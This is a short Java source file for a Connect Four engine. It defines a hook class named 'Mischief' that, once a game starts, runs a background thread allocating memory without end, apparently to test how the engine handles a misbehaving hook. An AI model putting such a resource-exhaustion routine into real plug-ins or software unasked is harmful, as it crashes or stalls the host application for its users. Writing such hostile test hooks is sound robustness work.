package connectfour;

import java.util.ArrayList;
import java.util.List;

final class Mischief extends Hook {

    @Override
    void begun(Engine game) {
        final Thread eater = new Thread(() -> {
            final List<byte[]> eaten = new ArrayList<>();
            while (true) {
                eaten.add(new byte[1_000_000]);
            }
        });
        eater.setDaemon(true);
        eater.start();
    }
}
